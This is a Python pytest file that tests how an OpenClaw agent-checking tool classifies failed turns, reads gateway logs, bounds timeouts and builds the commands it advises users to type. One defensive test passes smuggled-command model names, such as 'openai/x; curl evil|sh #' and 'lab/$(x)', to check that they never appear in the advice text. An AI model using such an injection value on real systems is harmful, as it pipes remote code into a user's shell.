"""What came of a turn, from what OpenClaw 2026.9.6 really printed and logged: pure."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from openclaw_ocm.core.openclaw.turn import (
    Failure,
    Question,
    Session,
    Turn,
    advice,
    agent_of,
    read_log,
    read_turn,
    sentence,
)

ASKED = Question(token="ocm-0123456789abcdef")
# What `openclaw agent --json` printed as the message of an error, and what a gateway logged while it tried
# again until the time was up: each with the failure that it tells of.
SAID = json.loads(Path(__file__).with_name("said.json").read_text())


def error(message: str) -> str:
    said = {
        "ok": False,
        "runId": "x",
        "origin": "gateway",
        "error": {"type": "cli_error", "message": message},
    }
    return json.dumps(said, indent=2)


def answer(text: str, *tools: str, status: str = "ok", boxed: bool = False, **payload: Any) -> str:  # noqa: ANN401 - any JSON
    meta = {
        "agentMeta": {"terminalReceipt": {"successfulToolNames": tools}},
        "systemPromptReport": {"sandbox": {"mode": "non-main", "sandboxed": boxed}},
    }
    payloads = [{"text": text, "mediaUrl": None, **payload}]
    return json.dumps({"runId": "x", "status": status, "result": {"payloads": payloads, "meta": meta}})


@pytest.mark.parametrize(("failure", "message"), SAID["errors"])
def test_what_openclaw_says_of_a_failure_is_told_apart(failure: str, message: str) -> None:
    turn = read_turn(ASKED, error(message), "[openclaw] The CLI command failed.")
    assert turn.failure is Failure[failure]
    assert turn.answer == ""
    assert turn.words.startswith(message.split("\n", maxsplit=1)[0][:60])
    assert "\n" not in turn.words


def test_each_failure_is_a_sentence_of_its_own_with_something_to_type() -> None:
    sentences = {sentence(one, "lab/m-1", 60.4) for one in Failure}
    assert len(sentences) == len(Failure)
    assert all("\n" not in one and not one.endswith(".") for one in sentences)
    assert all(advice(one, "worker1", "lab/m-1") for one in Failure)
    assert sentence(Failure.HANGS, "lab/m-1", 60.4) == "lab did not answer within 60 s"
    assert advice(Failure.NO_KEY, "worker1", "lab/m-1") == "ocm model worker1 lab/m-1 asks for it"


def test_what_only_the_command_prints_is_the_proof_that_it_ran() -> None:
    assert ASKED.proof not in ASKED.message
    assert len(ASKED.proof) == 16
    turn = read_turn(ASKED, answer(f"It printed {ASKED.proof}.", boxed=True), "")
    assert turn == Turn(failure=None, answer=f"It printed {ASKED.proof}.", boxed=True)


def test_a_tool_that_openclaw_saw_at_work_is_enough() -> None:
    assert read_turn(ASKED, answer("done", "read", "exec"), "").failure is None
    turn = read_turn(ASKED, answer("PONG from fake model", "read"), "")
    assert (turn.failure, turn.answer, turn.boxed) == (Failure.NO_TOOL, "PONG from fake model", False)


def test_a_turn_that_openclaw_ended_for_its_time_hangs() -> None:
    text = "Request timed out before a response was generated. Please try again, or increase `x`."
    assert read_turn(ASKED, answer(text, status="timeout", isError=True), "").failure is Failure.HANGS


def test_an_error_in_the_place_of_an_answer_is_one() -> None:
    text = "LLM request failed: connection refused by the provider endpoint."
    assert read_turn(ASKED, answer(text, isError=True), "").failure is Failure.UNREACHABLE


@pytest.mark.parametrize("said", ["", "no JSON", "[1]", "{", '{"result": 3}', '{"status": "ok"}', "{" * 9999])
def test_what_is_no_answer_is_a_failure(said: str) -> None:
    turn = read_turn(ASKED, said, "it broke\x1b[31m badly")
    assert turn.failure in (Failure.OTHER, Failure.NO_TOOL)
    assert "\x1b" not in turn.words


def test_of_a_huge_answer_little_is_kept() -> None:
    turn = read_turn(ASKED, answer("x" * 10**6), "")
    assert len(turn.answer) <= 200


@pytest.mark.parametrize(("failure", "line"), SAID["logged"])
def test_what_a_gateway_logged_tells_why_the_time_was_up(failure: str, line: str) -> None:
    hung = Turn(failure=Failure.HANGS, words="gateway timeout after 60000ms")
    lines = ["started", line, "embedded run agent end: isError=true provider=x error=who knows", "more"]
    assert read_log(hung, lines).failure is Failure[failure]
    assert read_log(hung, ["nothing of the kind"]) == hung
    box = Turn(failure=Failure.NO_BOX)
    assert read_log(box, lines) == box


def test_the_agent_that_is_asked_is_main_or_the_first() -> None:
    assert agent_of({}) == "main"
    assert agent_of({"agents": {"entries": {"two": {}, "main": {}}}}) == "main"
    assert agent_of({"agents": {"entries": {"--help": {}, "two": {}}}}) == "two"
    assert Session.GROUP.key("two") == "agent:two:ocm:group:check"
    assert Session.MAIN.key("main") == "agent:main:main"


def test_a_key_is_asked_for_in_no_argument_and_the_time_is_bounded() -> None:
    arguments = ASKED.arguments("agent:main:main", 120.0)
    assert arguments[:3] == ("agent", "--session-key", "agent:main:main")
    assert arguments[arguments.index("--timeout") + 1] == "100"
    short = ASKED.arguments("agent:main:main", 20.0)
    assert short[short.index("--timeout") + 1] == "15", "most of a short time is the agent's"
    assert ASKED.arguments("x", 1.0)[-2] == "1"


@pytest.mark.parametrize(
    "model", ["openai/x; curl evil|sh #", "OpenClaw's default", "fast", "lab/$(x)", "lab/x\n"]
)
def test_nothing_that_the_instance_wrote_is_to_be_typed(model: str) -> None:
    for failure in Failure:
        assert model not in advice(failure, "worker1", model)
    assert advice(Failure.NO_KEY, "worker1", model) == "ocm model worker1 PROVIDER/MODEL asks for it"
